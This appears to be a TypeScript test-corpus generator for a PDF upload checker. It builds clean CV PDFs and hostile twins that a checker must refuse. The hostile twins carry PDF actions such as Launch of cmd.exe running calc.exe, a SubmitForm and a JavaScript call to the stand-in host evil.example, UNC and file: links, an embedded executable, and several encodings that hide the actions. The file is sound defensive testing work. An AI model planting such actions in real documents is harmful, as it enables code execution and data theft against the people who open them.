/**
 * The PDF corpus of issue 33, made here (never committed as binaries): hostile files, each with
 * one way a reader could be made to act (every action type, every hiding place, every standard
 * filter and chains of two, predictors, object streams, cross-reference streams, an incremental
 * update, encryption, damage), and ordinary CVs from three producers (this file's writer,
 * Chromium's print-to-PDF and qpdf's writer) with images, fonts, http(s) links and bookmarks.
 *
 * Each encoding comes as a pair: the same file with and without the action. The clean twin must be
 * accepted, which proves the checker decoded the encoding rather than refusing what it could not
 * read; the hostile one must be refused.
 */
import { spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { deflateSync } from "node:zlib";

export interface CorpusFile {
  name: string;
  bytes: Buffer;
}

type Body = string | { dict: string; data: Buffer };

// ---- Encoders of the standard filters ----

const asciiHex = (b: Buffer) => Buffer.from(b.toString("hex").replace(/(.{64})/g, "$1\n") + ">");

function ascii85(b: Buffer): Buffer {
  let out = "";
  for (let i = 0; i < b.length; i += 4) {
    const chunk = Buffer.alloc(4);
    b.copy(chunk, 0, i, Math.min(i + 4, b.length));
    const n = Math.min(4, b.length - i);
    let v = chunk.readUInt32BE(0);
    if (v === 0 && n === 4) {
      out += "z";
      continue;
    }
    const digits: string[] = [];
    for (let d = 0; d < 5; d++) {
      digits.unshift(String.fromCharCode((v % 85) + 33));
      v = Math.floor(v / 85);
    }
    out += digits.slice(0, n + 1).join("");
  }
  return Buffer.from(out.replace(/(.{72})/g, "$1\n") + "~>");
}

/** LZW with 9-bit codes only: a Clear code before the table would need a tenth bit. */
function lzw(b: Buffer): Buffer {
  const bytes: number[] = [];
  let acc = 0;
  let bits = 0;
  const write = (code: number) => {
    acc = (acc << 9) | code;
    bits += 9;
    while (bits >= 8) {
      bytes.push((acc >>> (bits - 8)) & 0xff);
      bits -= 8;
    }
    acc &= (1 << bits) - 1;
  };
  let table = new Map<string, number>();
  let next = 258;
  const codeOf = (s: string) => (s.length === 1 ? s.charCodeAt(0) : table.get(s)!);
  write(256);
  let w = "";
  for (const byte of b) {
    const c = String.fromCharCode(byte);
    if (w && (table.has(w + c) || false)) {
      w += c;
      continue;
    }
    if (!w) {
      w = c;
      continue;
    }
    write(codeOf(w));
    table.set(w + c, next++);
    w = c;
    if (next >= 500) {
      write(256);
      table = new Map();
      next = 258;
    }
  }
  if (w) write(codeOf(w));
  write(257);
  if (bits > 0) bytes.push((acc << (8 - bits)) & 0xff);
  return Buffer.from(bytes);
}

function runLength(b: Buffer): Buffer {
  const parts: Buffer[] = [];
  for (let i = 0; i < b.length; i += 128) {
    const piece = b.subarray(i, i + 128);
    parts.push(Buffer.from([piece.length - 1]), piece);
  }
  parts.push(Buffer.from([128]));
  return Buffer.concat(parts);
}

export const FILTERS = {
  ASCIIHexDecode: asciiHex,
  ASCII85Decode: ascii85,
  FlateDecode: (b: Buffer) => deflateSync(b),
  LZWDecode: lzw,
  RunLengthDecode: runLength,
} as const;
export type FilterName = keyof typeof FILTERS;

/** Predictors: PNG (10-15, a type byte per row) and TIFF 2, over rows of `columns` bytes. */
export type Predictor = { kind: 12 | 15 | 2; columns: number };

function predict(b: Buffer, { kind, columns }: Predictor): Buffer {
  const padded = Buffer.alloc(Math.ceil(b.length / columns) * columns, 0x20);
  b.copy(padded);
  const rows: Buffer[] = [];
  let previous = Buffer.alloc(columns);
  for (let r = 0; r * columns < padded.length; r++) {
    const row = padded.subarray(r * columns, (r + 1) * columns);
    const out = Buffer.alloc(columns);
    // PNG 15 lets each row choose: alternate Sub and Up. PNG 12 is Up on every row.
    const type = kind === 2 ? null : kind === 15 && r % 2 ? 1 : 2;
    for (let i = 0; i < columns; i++) {
      const left = i > 0 ? row[i - 1]! : 0;
      out[i] = (row[i]! - (type === 2 ? previous[i]! : left)) & 0xff;
    }
    rows.push(type === null ? out : Buffer.concat([Buffer.from([type]), out]));
    previous = row;
  }
  return Buffer.concat(rows);
}

/** Encodes `data` through `filters` (the first filter named is the last applied, as PDF reads them). */
function encode(data: Buffer, filters: FilterName[], predictor?: Predictor): { dict: string; data: Buffer } {
  let bytes = predictor ? predict(data, predictor) : data;
  for (const f of [...filters].reverse()) bytes = FILTERS[f](bytes);
  const names = filters.map((f) => `/${f}`);
  const filter = names.length === 1 ? names[0] : `[${names.join(" ")}]`;
  const params = predictor
    ? `<< /Predictor ${predictor.kind} /Columns ${predictor.columns} /Colors 1 /BitsPerComponent 8 >>`
    : "null";
  const decodeParms = predictor ? (filters.length === 1 ? params : `[${filters.map(() => params).join(" ")}]`) : "";
  // With a chain, the predictor belongs to the last decoder only (Flate or LZW).
  const parms =
    predictor && filters.length > 1
      ? `[${filters.map((_, i) => (i === filters.length - 1 ? params : "null")).join(" ")}]`
      : decodeParms;
  return { dict: `/Filter ${filter}${parms ? ` /DecodeParms ${parms}` : ""}`, data: bytes };
}

// ---- The writer ----

const HEADER = Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1");

interface Layout {
  xref?: "table" | "stream";
  /** Object numbers kept inside one object stream, written with these filters (xref becomes a stream). */
  packed?: { ids: number[]; filters: FilterName[]; predictor?: Predictor };
}

const objectBytes = (id: number, body: Body) =>
  typeof body === "string"
    ? Buffer.from(`${id} 0 obj\n${body}\nendobj\n`, "latin1")
    : Buffer.concat([
        Buffer.from(`${id} 0 obj\n<< ${body.dict} /Length ${body.data.length} >>\nstream\n`, "latin1"),
        body.data,
        Buffer.from("\nendstream\nendobj\n"),
      ]);

/** Writes objects 1..n (`objects[i]` is object i + 1), object 1 the catalog. */
export function writePdf(objects: Body[], layout: Layout = {}, prior?: { bytes: Buffer; startxref: number }): Buffer {
  const parts: Buffer[] = [prior ? prior.bytes : HEADER];
  let length = parts[0]!.length;
  const offsets = new Map<number, number>();
  const inStream = new Map<number, number>();
  const packed = new Set(layout.packed?.ids ?? []);
  const add = (id: number, body: Body) => {
    offsets.set(id, length);
    const bytes = objectBytes(id, body);
    parts.push(bytes);
    length += bytes.length;
  };
  let size = objects.length + 1;
  objects.forEach((body, i) => {
    if (body === "" || packed.has(i + 1)) return;
    add(i + 1, body);
  });
  if (layout.packed) {
    const ids = layout.packed.ids;
    let header = "";
    let content = "";
    ids.forEach((id, index) => {
      header += `${id} ${content.length} `;
      content += `${objects[id - 1] as string}\n`;
      inStream.set(id, index);
    });
    const streamId = size++;
    const encoded = encode(Buffer.from(header + content, "latin1"), layout.packed.filters, layout.packed.predictor);
    add(streamId, {
      dict: `/Type /ObjStm /N ${ids.length} /First ${Buffer.byteLength(header, "latin1")} ${encoded.dict}`,
      data: encoded.data,
    });
    for (const id of ids) inStream.set(id, streamId * 1000 + inStream.get(id)!);
  }
  const prev = prior ? ` /Prev ${prior.startxref}` : "";
  const startxref = length;
  if (layout.xref === "stream" || layout.packed) {
    const xrefId = size++;
    offsets.set(xrefId, length);
    const ids = [...offsets.keys(), ...inStream.keys()].sort((a, b) => a - b);
    const rows: number[] = [];
    const index: number[] = [];
    for (const id of prior ? ids : [0, ...ids]) {
      index.push(id, 1);
      if (id === 0) rows.push(0, 0, 0, 0, 0, 0xff);
      else if (inStream.has(id)) {
        const where = inStream.get(id)!;
        const container = Math.floor(where / 1000);
        rows.push(
          2,
          (container >>> 24) & 0xff,
          (container >>> 16) & 0xff,
          (container >>> 8) & 0xff,
          container & 0xff,
          where % 1000,
        );
      } else {
        const o = offsets.get(id)!;
        rows.push(1, (o >>> 24) & 0xff, (o >>> 16) & 0xff, (o >>> 8) & 0xff, o & 0xff, 0);
      }
    }
    const table = deflateSync(Buffer.from(rows));
    parts.push(
      objectBytes(xrefId, {
        dict: `/Type /XRef /Size ${size} /W [1 4 1] /Index [${index.join(" ")}] /Root 1 0 R${prev} /Filter /FlateDecode`,
        data: table,
      }),
    );
  } else {
    const ids = [...offsets.keys()].sort((a, b) => a - b);
    let xref = "xref\n";
    if (!prior) xref += "0 1\n0000000000 65535 f \n";
    for (const id of ids) xref += `${id} 1\n${String(offsets.get(id)).padStart(10, "0")} 00000 n \n`;
    parts.push(Buffer.from(`${xref}trailer\n<< /Size ${size} /Root 1 0 R${prev} >>\n`));
  }
  parts.push(Buffer.from(`startxref\n${startxref}\n%%EOF\n`));
  return Buffer.concat(parts);
}

/** An incremental update: `changed` objects appended after `base`, with a new cross-reference. */
export function updatePdf(base: Buffer, changed: Map<number, Body>, xref: "table" | "stream" = "table"): Buffer {
  const startxref = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(base.toString("latin1"))?.[1]);
  const sizes = [...base.toString("latin1").matchAll(/\/Size (\d+)/g)].map((m) => Number(m[1]));
  const highest = Math.max(...changed.keys(), ...sizes.map((n) => n - 1));
  const objects: Body[] = Array.from({ length: highest }, (_, i) => changed.get(i + 1) ?? "");
  return writePdf(objects, { xref }, { bytes: base, startxref });
}

// ---- A CV, written by hand: text, a font, an image, an http(s) link, a bookmark ----

const W = 612;
const H = 792;
/** A small gradient image, Flate with a PNG predictor as producers write them. */
function image(): Body {
  const rows: Buffer[] = [];
  for (let y = 0; y < 16; y++) rows.push(Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 5 + y * 9) & 0xff)));
  const encoded = encode(Buffer.concat(rows), ["FlateDecode"], { kind: 12, columns: 48 });
  return {
    dict: `/Type /XObject /Subtype /Image /Width 16 /Height 16 /ColorSpace /DeviceRGB /BitsPerComponent 8 ${encoded.dict.replace("/Colors 1", "/Colors 3").replace("/Columns 48", "/Columns 16")}`,
    data: encoded.data,
  };
}

export interface CvParts {
  catalog?: string;
  page?: string;
  /** More annotations on the page (references or inline dictionaries). */
  annots?: string[];
  /** The bookmark's link: a destination by default. */
  outline?: string;
  /** Objects 12 onwards. */
  extra?: Body[];
}

/** Objects: 1 catalog, 2 pages, 3 page, 4 content, 5 font, 6 link, 7 outlines, 8 bookmark, 9 image, 10-11 spare. */
export function cvObjects(parts: CvParts = {}): Body[] {
  const content = Buffer.from(
    "BT /F1 20 Tf 72 720 Td (Maria Silva - Curriculo) Tj ET\nBT /F1 11 Tf 72 690 Td (https://lead.example/maria) Tj ET\nq 48 0 0 48 480 700 cm /Im1 Do Q",
  );
  return [
    `<< /Type /Catalog /Pages 2 0 R /Outlines 7 0 R /PageMode /UseOutlines ${parts.catalog ?? ""} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 ${W} ${H}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /Im1 9 0 R >> >> /Annots [6 0 R ${(parts.annots ?? []).join(" ")}] ${parts.page ?? ""} >>`,
    { dict: "/Filter /FlateDecode", data: deflateSync(content) },
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    "<< /Type /Annot /Subtype /Link /Rect [72 685 260 700] /Border [0 0 0] /A << /S /URI /URI (https://lead.example/maria) >> >>",
    "<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>",
    `<< /Title (Experiencia) /Parent 7 0 R ${parts.outline ?? "/Dest [3 0 R /XYZ 0 720 0]"} >>`,
    image(),
    "null",
    "null",
    ...(parts.extra ?? []),
  ];
}

// ---- Actions ----

const s = (text: string) => `(${text.replace(/\\/g, "\\\\").replace(/([()])/g, "\\$1")})`;

/** Every action type but GoTo and URI, each as a reader would run it. */
export const ACTIONS: Record<string, string> = {
  Launch: `<< /Type /Action /S /Launch /F ${s("cmd.exe")} /Win << /F ${s("cmd.exe")} /P ${s("/c calc.exe")} >> >>`,
  GoToR: `<< /Type /Action /S /GoToR /F ${s("\\\\host\\share\\cv.pdf")} /D [0 /Fit] >>`,
  GoToE: `<< /S /GoToE /D [0 /Fit] /T << /R /C /N ${s("a.pdf")} >> >>`,
  GoTo3DView: "<< /S /GoTo3DView /TA 3 0 R /V 0 >>",
  Thread: "<< /S /Thread /D 0 >>",
  Sound: "<< /S /Sound /Sound null >>",
  Movie: "<< /S /Movie /T (m) >>",
  Hide: "<< /S /Hide /T 6 0 R /H false >>",
  Named: "<< /S /Named /N /Print >>",
  SubmitForm: `<< /S /SubmitForm /F << /FS /URL /F ${s("https://evil.example/collect")} >> /Flags 4 >>`,
  ResetForm: "<< /S /ResetForm >>",
  ImportData: `<< /S /ImportData /F ${s("\\\\host\\share\\data.fdf")} >>`,
  JavaScript: `<< /S /JavaScript /JS ${s("app.launchURL('https://evil.example')")} >>`,
  SetOCGState: "<< /S /SetOCGState /State [/OFF] >>",
  Rendition: "<< /S /Rendition /OP 0 >>",
  Trans: "<< /S /Trans /Trans << /S /Dissolve >> >>",
  RichMediaExecute: "<< /S /RichMediaExecute /TA 3 0 R /TI 3 0 R /CMD << /C (play) >> >>",
  "URI to file:": `<< /S /URI /URI ${s("file:///C:/Windows/System32/cmd.exe")} >>`,
  "URI to a network path": `<< /S /URI /URI ${s("\\\\host\\share\\x.exe")} >>`,
  "URI to javascript:": `<< /S /URI /URI ${s("javascript:app.alert(1)")} >>`,
  "URI to smb:": `<< /S /URI /URI ${s("smb://host/share")} >>`,
  "URI to mailto: with an attachment": `<< /S /URI /URI ${s("mailto:rh@lead.example?attach=C:/Users/rh/secret.txt")} >>`,
  "Launch, its name escaped": `<< /S /L#61unch /F ${s("cmd.exe")} >>`,
};
const LAUNCH = ACTIONS.Launch!;
const CLEAN_ACTION = "<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>";

const pdf = (parts: CvParts, layout?: Layout) => writePdf(cvObjects(parts), layout);

// ---- The hostile corpus ----

/** The encodings an open action can be hidden in: clean and hostile twins. */
export const ENCODINGS: Array<{ name: string; layout: Layout }> = [
  { name: "a cross-reference table", layout: { xref: "table" } },
  { name: "a cross-reference stream", layout: { xref: "stream" } },
  ...(Object.keys(FILTERS) as FilterName[]).map((f) => ({
    name: `an object stream, ${f}`,
    layout: { packed: { ids: [1, 12], filters: [f] } },
  })),
  ...(
    [
      ["ASCIIHexDecode", "FlateDecode"],
      ["ASCII85Decode", "FlateDecode"],
      ["ASCIIHexDecode", "LZWDecode"],
      ["ASCII85Decode", "RunLengthDecode"],
      ["RunLengthDecode", "FlateDecode"],
      ["ASCIIHexDecode", "ASCII85Decode"],
    ] as FilterName[][]
  ).map((filters) => ({ name: `an object stream, [${filters.join(" ")}]`, layout: { packed: { ids: [1, 12], filters } } })),
  {
    name: "an object stream, FlateDecode with PNG predictor 12",
    layout: { packed: { ids: [1, 12], filters: ["FlateDecode"], predictor: { kind: 12, columns: 5 } } },
  },
  {
    name: "an object stream, FlateDecode with PNG predictor 15",
    layout: { packed: { ids: [1, 12], filters: ["FlateDecode"], predictor: { kind: 15, columns: 7 } } },
  },
  {
    name: "an object stream, LZWDecode with TIFF predictor 2",
    layout: { packed: { ids: [1, 12], filters: ["LZWDecode"], predictor: { kind: 2, columns: 6 } } },
  },
  {
    name: "an object stream, [ASCIIHexDecode FlateDecode] with PNG predictor 12",
    layout: { packed: { ids: [1, 12], filters: ["ASCIIHexDecode", "FlateDecode"], predictor: { kind: 12, columns: 4 } } },
  },
];

/** A CV whose open action is object 12, written in `layout`; `action` absent: a GoTo (clean). */
export const openActionIn = (layout: Layout, action = CLEAN_ACTION) =>
  pdf({ catalog: "/OpenAction 12 0 R", extra: [action] }, layout);

function qpdf(args: string[], input: Buffer): Buffer {
  const dir = mkdtempSync(path.join(tmpdir(), "lead-corpus-"));
  try {
    writeFileSync(path.join(dir, "in.pdf"), input);
    const run = spawnSync("qpdf", [...args, path.join(dir, "in.pdf"), path.join(dir, "out.pdf")]);
    if (run.status !== 0 && run.status !== 3) throw new Error(`qpdf ${args.join(" ")}: ${String(run.stderr)}`);
    return readFileSync(path.join(dir, "out.pdf"));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}
const encrypt = (bytes: Buffer, user: string) => qpdf(["--encrypt", user, "owner-secret", "256", "--"], bytes);

/** Every hostile file, each refused. */
export function hostilePdfs(): CorpusFile[] {
  const files: CorpusFile[] = [];
  const add = (name: string, bytes: Buffer) => files.push({ name, bytes });
  for (const [type, action] of Object.entries(ACTIONS)) add(`document open action: ${type}`, openActionIn({}, action));
  for (const { name, layout } of ENCODINGS) add(`open action Launch in ${name}`, openActionIn(layout, LAUNCH));
  add(
    "a /Next chain: GoTo, then Launch",
    openActionIn({}, `<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next [${LAUNCH}] >> >>`),
  );
  add("document /AA /WC JavaScript", pdf({ catalog: `/AA << /WC ${ACTIONS.JavaScript} >>` }));
  add("page /AA /O SubmitForm to an outside address", pdf({ page: `/AA << /O ${ACTIONS.SubmitForm} >>` }));
  add(
    "a page-wide Link annotation whose action is Launch",
    pdf({ annots: [`<< /Type /Annot /Subtype /Link /Rect [0 0 ${W} ${H}] /Border [0 0 0] /A ${LAUNCH} >>`] }),
  );
  add(
    "a Link to GoToR \\\\host\\share",
    pdf({ annots: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A ${ACTIONS.GoToR} >>`] }),
  );
  add(
    "a Link's /PA Launch",
    pdf({ annots: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /Dest [3 0 R /Fit] /PA ${LAUNCH} >>`] }),
  );
  add(
    "a Link annotation's /AA /E JavaScript",
    pdf({ annots: [`<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /AA << /E ${ACTIONS.JavaScript} >> >>`] }),
  );
  add("an outline item's action Launch", pdf({ outline: `/A ${LAUNCH}` }));
  add(
    "an outline item's action Launch, in an object stream with ASCII85",
    pdf({ outline: "/A 12 0 R", extra: [LAUNCH] }, { packed: { ids: [8, 12], filters: ["ASCII85Decode"] } }),
  );
  add(
    "a form field's action JavaScript",
    pdf({
      catalog: "/AcroForm << /Fields [12 0 R] >>",
      annots: ["12 0 R"],
      extra: [
        `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (ok) /Rect [72 72 200 100] /P 3 0 R /A ${ACTIONS.JavaScript} >>`,
      ],
    }),
  );
  add(
    "a form field's /AA /K JavaScript (keystroke)",
    pdf({
      catalog: "/AcroForm << /Fields [12 0 R] >>",
      annots: ["12 0 R"],
      extra: [
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (nome) /Rect [72 72 200 100] /P 3 0 R /AA << /K ${ACTIONS.JavaScript} >> >>`,
      ],
    }),
  );
  add(
    "a form field's parent /AA /F SubmitForm, the widget clean",
    pdf({
      catalog: "/AcroForm << /Fields [12 0 R] >>",
      annots: ["13 0 R"],
      extra: [
        `<< /FT /Tx /T (nome) /Kids [13 0 R] /AA << /F ${ACTIONS.SubmitForm} >> >>`,
        "<< /Type /Annot /Subtype /Widget /Parent 12 0 R /Rect [72 72 200 100] /P 3 0 R >>",
      ],
    }),
  );
  add("names tree JavaScript", pdf({ catalog: `/Names << /JavaScript << /Names [(init) ${ACTIONS.JavaScript}] >> >>` }));
  add(
    "names tree JavaScript under /Kids",
    pdf({
      catalog: "/Names << /JavaScript 12 0 R >>",
      extra: ["<< /Kids [13 0 R] >>", `<< /Limits [(a) (z)] /Names [(m) ${ACTIONS.JavaScript}] >>`],
    }),
  );
  const fileSpec = "<< /Type /Filespec /F (run.exe) /UF (run.exe) /EF << /F 13 0 R >> >>";
  const embedded: Body = { dict: "/Type /EmbeddedFile /Subtype /application#2Foctet-stream", data: Buffer.from("MZ not really") };
  add(
    "names tree EmbeddedFiles",
    pdf({ catalog: "/Names << /EmbeddedFiles << /Names [(run.exe) 12 0 R] >> >>", extra: [fileSpec, embedded] }),
  );
  add(
    "a FileAttachment annotation",
    pdf({ annots: ["<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 12 0 R >>"], extra: [fileSpec, embedded] }),
  );
  add(
    "a RichMedia annotation",
    pdf({
      annots: ["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 200 200] /RichMediaContent << /Assets << /Names [] >> >> >>"],
    }),
  );
  add(
    "a Screen annotation with a Rendition",
    pdf({ annots: [`<< /Type /Annot /Subtype /Screen /Rect [0 0 200 200] /A ${ACTIONS.Rendition} >>`] }),
  );
  add(
    "an XFA form",
    pdf({
      catalog: "/AcroForm << /Fields [] /XFA 12 0 R >>",
      extra: [
        { dict: "", data: Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>') },
      ],
    }),
  );
  add("a portfolio (/Collection)", pdf({ catalog: "/Collection << /View /D >>" }));
  const base = openActionIn({});
  add(
    "an incremental update adds a Launch open action to a clean file",
    updatePdf(
      base,
      new Map([
        [1, `<< /Type /Catalog /Pages 2 0 R /OpenAction 12 0 R >>`],
        [12, LAUNCH],
      ]),
    ),
  );
  add(
    "an incremental update with a cross-reference stream adds a Launch open action",
    updatePdf(base, new Map([[1, `<< /Type /Catalog /Pages 2 0 R /OpenAction ${LAUNCH} >>`]]), "stream"),
  );
  add("encrypted with a user password (cannot be opened)", encrypt(pdf({}), "segredo"));
  add("encrypted without a user password, with a Launch open action", encrypt(openActionIn({}, LAUNCH), ""));
  const plain = pdf({});
  add("damaged: cut at two thirds", plain.subarray(0, Math.floor((plain.length * 2) / 3)));
  add(
    "damaged: cross-reference offsets shifted",
    Buffer.from(
      plain
        .toString("latin1")
        .replace(/(\d{10}) 00000 n/g, (_, o: string) => `${String(Number(o) + 7).padStart(10, "0")} 00000 n`),
      "latin1",
    ),
  );
  add(
    "damaged: startxref points nowhere",
    Buffer.from(plain.toString("latin1").replace(/startxref\n\d+/, "startxref\n99999999"), "latin1"),
  );
  add("stream\\nx\\nendstream repeated to 1 MB", adversarialStreams(1024 * 1024));
  return files;
}

/** The cost case of issue 33: `stream\nx\nendstream` without dictionaries, repeated to `size` bytes. */
export function adversarialStreams(size: number): Buffer {
  const unit = "stream\nx\nendstream\n";
  return Buffer.from(`%PDF-1.7\n${unit.repeat(Math.ceil(size / unit.length))}`.slice(0, size), "latin1");
}

/**
 * A valid one-page PDF of about `size` bytes made of many small dictionaries (objects the reader
 * must parse and the JSON view must print): the other cost case. Past QPDF_MAX_OBJECTS it is
 * refused from its cross-reference alone. Another `filler` (each object's dictionary) makes a
 * view larger per object.
 */
export function manyObjects(size: number, filler = "<< /A [1 2 3] /B (texto) /C << /D /E >> >>"): Buffer {
  const objects: string[] = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
  ];
  while (objects.length * (filler.length + 40) < size) objects.push(filler);
  let body = "%PDF-1.7\n";
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`;
  return Buffer.from(
    `${body}${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`,
    "latin1",
  );
}

// ---- Ordinary CVs ----

/** Clean twins of every encoding, and the hand-written CV in several shapes: each accepted. */
export function cleanPdfs(): CorpusFile[] {
  const files: CorpusFile[] = ENCODINGS.map(({ name, layout }) => ({
    name: `a GoTo open action in ${name}`,
    bytes: openActionIn(layout),
  }));
  files.push({ name: "hand-written CV: image, font, https link, bookmark", bytes: pdf({}) });
  files.push({
    name: "hand-written CV: a GoTo bookmark action, a URI link with a GoTo /Next, a mailto: link",
    bytes: pdf({
      outline: `/A ${CLEAN_ACTION}`,
      annots: [
        `<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (http://lead.example/) /Next ${CLEAN_ACTION} >> >>`,
        "<< /Type /Annot /Subtype /Link /Rect [60 0 110 50] /A << /S /URI /URI (mailto:maria.silva@example.org) >> >>",
      ],
    }),
  });
  files.push({
    name: "hand-written CV after an incremental update that changes the text",
    bytes: updatePdf(pdf({}), new Map([[4, { dict: "", data: Buffer.from("BT /F1 20 Tf 72 720 Td (Maria Silva) Tj ET") }]])),
  });
  files.push({ name: "hand-written CV encrypted without a user password", bytes: encrypt(pdf({}), "") });
  return files;
}

const CV_HTML = (lang: string, pages: number, imageUrl: string) => `<!doctype html>
<html lang="${lang}"><head><meta charset="utf-8"><title>Maria Silva - CV</title>
<style>body{font:11pt "DejaVu Serif",serif;margin:0} h1,h2{font-family:"DejaVu Sans",sans-serif} section{break-after:page}</style></head>
<body><h1>Maria Silva</h1><img src="${imageUrl}" alt="Foto" width="96" height="96">
<p><a href="https://lead.example/maria">https://lead.example/maria</a> · <a href="http://example.org/portfolio">portfólio</a> · <a href="mailto:maria.silva@example.org">maria.silva@example.org</a> · <a href="#exp">Experiência</a></p>
${Array.from({ length: pages }, (_, i) => `<section><h2 id="${i ? `s${i}` : "exp"}">Seção ${i + 1}: experiência, formação, ações</h2>${"<p>Desenvolvimento de software acessível, pesquisa e inovação em Fortaleza. ".repeat(12)}</p></section>`).join("\n")}
</body></html>`;

/**
 * Ordinary CVs from Chromium's print-to-PDF (fonts embedded, a photo, links, bookmarks, tagged),
 * and the same rewritten by qpdf's writer with object streams. `launch`: a Chromium launcher.
 */
export async function producedCvs(
  launch: () => Promise<{ newPage(): Promise<PdfPage>; close(): Promise<void> }>,
  photo: Buffer,
): Promise<CorpusFile[]> {
  const browser = await launch();
  try {
    const files: CorpusFile[] = [];
    for (const [lang, pages] of [
      ["pt", 1],
      ["en", 4],
    ] as const) {
      const page = await browser.newPage();
      await page.setContent(CV_HTML(lang, pages, `data:image/jpeg;base64,${photo.toString("base64")}`));
      const bytes = Buffer.from(await page.pdf({ format: "A4", outline: true, tagged: true, printBackground: true }));
      files.push({ name: `Chromium print-to-PDF, ${pages} page(s)`, bytes });
      files.push({
        name: `qpdf's writer (object streams, cross-reference stream) over Chromium's, ${pages} page(s)`,
        bytes: qpdf(["--object-streams=generate", "--compress-streams=y"], bytes),
      });
      files.push({ name: `qpdf's writer, linearized, over Chromium's, ${pages} page(s)`, bytes: qpdf(["--linearize"], bytes) });
    }
    return files;
  } finally {
    await browser.close();
  }
}

/** The part of playwright-core's Page the producer uses. */
export interface PdfPage {
  setContent(html: string): Promise<void>;
  pdf(options: { format: string; outline: boolean; tagged: boolean; printBackground: boolean }): Promise<Uint8Array>;
}

/** A CV of about `size` bytes: the hand-written one carrying a large image (incompressible bytes). */
export function cvOfSize(size: number): Buffer {
  let state = 12345;
  const noise = Buffer.alloc(Math.max(0, size - 3000), 0);
  for (let i = 0; i < noise.length; i++) {
    state = (Math.imul(state, 1103515245) + 12345) & 0x7fffffff;
    noise[i] = state >>> 16;
  }
  const side = Math.max(1, Math.floor(Math.sqrt(noise.length / 3)));
  const big: Body = {
    dict: `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 8`,
    data: noise.subarray(0, side * side * 3),
  };
  const objects = cvObjects();
  objects[8] = big;
  return writePdf(objects);
}
